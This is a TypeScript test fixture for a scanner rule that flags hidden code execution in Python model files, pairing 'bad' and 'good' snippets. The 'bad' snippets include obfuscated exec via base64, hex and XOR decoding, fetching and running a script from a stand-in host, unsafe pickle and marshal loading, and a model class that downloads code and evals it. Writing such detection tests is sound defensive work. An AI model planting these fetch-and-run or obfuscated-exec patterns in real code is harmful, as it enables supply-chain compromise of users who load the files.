import type { Example, RuleExamples } from '../../../model/rule.ts'

function py(text: string, path = 'modeling_x.py'): Example {
  return { path, bytes: Buffer.from(text) }
}

export const examples: RuleExamples = {
  bad: [
    py('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
    py('import requests\nexec(requests.get("https://host.example/a.py").text)'),
    py('exec("".join(chr(c ^ 1) for c in [113, 115]))'),
    py('exec(bytes.fromhex("7072696e74").decode())'),
    py('import marshal, zlib\nexec(marshal.loads(zlib.decompress(b"x")))'),
    py(
      '_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))\nexec((_)(b"abc"))',
    ),
    py(
      'import urllib.request, runpy\nurllib.request.urlretrieve("https://host.example/a.py", "/tmp/a.py")\nrunpy.run_path("/tmp/a.py")',
    ),
    py('import pickle, base64\npickle.loads(base64.b64decode("gASVIAAAAAAAAACMBXBvc2l4lA=="))'),
    py(
      'class M(PreTrainedModel):\n    def __init__(self, c):\n        self.code = __import__("requests").get(c.url).text\n    def forward(self, x):\n        return eval(self.code)',
    ),
  ],
  good: [
    py('exec(open("version.py").read())'),
    py('import ast\nx = ast.literal_eval("[1]")'),
    py('def load(path):\n    import pickle\n    return pickle.load(open(path, "rb"))'),
    py('import base64\nicon = base64.b64decode("iVBORw0KGgo=")'),
  ],
}
